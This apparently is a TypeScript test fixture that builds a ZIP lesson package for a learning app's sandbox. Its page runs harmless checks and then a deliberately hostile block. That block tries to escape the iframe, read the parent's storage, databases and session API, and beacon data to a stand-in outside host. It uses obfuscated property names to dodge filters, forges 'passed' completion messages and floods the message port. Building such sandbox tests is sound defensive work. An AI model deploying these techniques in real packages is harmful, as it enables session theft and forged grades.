import { strToU8, zipSync } from 'fflate';
import { mkdtemp, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';

export const HOSTILE_TITLE = 'Pelajaran Nakal';

/** What an honest lesson does as well: these have to work. */
const HONEST = `
  await told('address', () => location.pathname + location.search);
  await told('json', () => fetch('data/isi.json?v=1').then((answer) => answer.json()).then((read) => read.kota));
  await told('xml', () => { const x = new XMLHttpRequest(); x.open('GET', '/data/isi.xml', false); x.send(); return x.responseXML.documentElement.textContent; });
  await told('storage', () => { localStorage.setItem('a', '1'); document.cookie = 'b=2'; return localStorage.a + document.cookie; });
  await told('picture', () => new Promise((done) => { const i = new Image(); i.onload = () => done('loaded'); i.onerror = () => done('no'); i.src = 'data/titik.png'; }));
  await told('frame', () => new Promise((done) => { window.hear = done; const f = document.createElement('iframe'); f.src = 'data/Bingkai%20\\u00e9.html#x'; document.body.append(f); }));`;

/** What no package may come through with; names are put together so that no rewriting meets them. */
const HOSTILE = `
  const outer = window['to' + 'p'];
  const fresh = () => { const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow; };
  await told('top document', () => outer.document.title);
  await told('top address', () => { outer['loca' + 'tion'].href = OUT + '/top'; return 'went'; });
  await told('app storage', () => fresh()['local' + 'Storage'].length);
  await told('databases', () => indexedDB.databases());
  await told('open database', () => new Promise((done, fail) => { const o = indexedDB.open('smartasn'); o.onsuccess = () => done('open'); o.onerror = fail; }));
  await told('caches', () => caches.keys());
  await told('app fetch', () => fresh().fetch(APP + '/api/session'));
  await told('fetch', () => fresh().fetch(OUT + '/fetch', { mode: 'no-cors' }));
  await told('worker', () => navigator.serviceWorker.register(APP + '/service-worker.js'));
  await told('rtc', () => [typeof RTCPeerConnection, typeof fresh().RTCPeerConnection, typeof WebTransport].join());
  await told('popup', () => String(Window.prototype.open?.call(window, OUT + '/popup') ?? fresh().open(OUT + '/popup')));
  await told('data frame', () => new Promise((done) => { const f = document.createElement('iframe'); Object.getOwnPropertyDescriptor(fresh().HTMLIFrameElement.prototype, 'src').set.call(f, 'data:text/html,<script>parent.postMessage(1,"*")</' + 'script>'); addEventListener('message', () => done('ran')); document.body.append(f); setTimeout(() => done('silent'), 500); }));
  fresh().navigator.sendBeacon(OUT + '/beacon', 'x');
  try { new WebSocket(OUT.replace('http', 'ws') + '/socket'); } catch {}
  try { new EventSource(OUT + '/events'); } catch {}
  document.body.insertAdjacentHTML('beforeend', '<img src="' + OUT + '/image"><link rel="prefetch" href="' + OUT + '/prefetch"><style>@import "' + OUT + '/style"</style>');
  new Worker(URL.createObjectURL(new Blob(['fetch("' + OUT + '/worker")'])));
  const form = document.createElement('form'); form.method = 'post'; form.action = OUT + '/form'; form.target = 'entah'; document.body.append(form); HTMLFormElement.prototype.requestSubmit.call(form);
  outer.postMessage({ type: 'state' }, '*');
  const port = parent.packagePort;
  for (let n = 0; n < 300; n += 1) port.postMessage([null, 7, { type: 'state', json: 3 }, { type: 'want', path: '../../x' }, { type: 'left', more: 1 }][n % 5]);
  for (let n = 0; n < 3; n += 1) port.postMessage({ type: 'state', json: 'x'.repeat(10_000_000), completed: true, success: 'passed', score: 1, seconds: 1, ended: true });`;

const page = (app: string, out: string): string => `<!doctype html><html lang="id"><head><meta charset="utf-8">
<title>${HOSTILE_TITLE}</title></head><body><h1>${HOSTILE_TITLE}</h1><pre id="hasil"></pre><script>
const APP = ${JSON.stringify(app)}, OUT = ${JSON.stringify(out)}, found = {};
const told = async (name, work) => {
  try { found[name] = await work(); } catch (error) { found[name] = 'refused'; }
};
(async () => {${HONEST}${HOSTILE}
  document.getElementById('hasil').textContent = JSON.stringify(found);
})();
</script></body></html>`;

/** A ZIP archive of pages, one of which tries every way out; what it found stands in `#hasil`. */
export async function hostilePackage(app: string, out: string): Promise<string> {
  const file = path.join(await mkdtemp(path.join(os.tmpdir(), 'smartasn-package-')), 'nakal.zip');
  const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
  const bytes = zipSync({
    'nakal/index.html': strToU8(page(app, out)),
    'nakal/data/isi.json': strToU8('{"kota":"Agats"}'),
    'nakal/data/isi.xml': new Uint8Array(
      Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe9</a>', 'latin1')
    ),
    'nakal/data/titik.png': new Uint8Array(Buffer.from(dot, 'base64')),
    'nakal/data/Bingkai é.html': strToU8('<script>parent.hear(decodeURI(location.pathname) + location.hash)</script>')
  });
  await writeFile(file, bytes);
  return file;
}
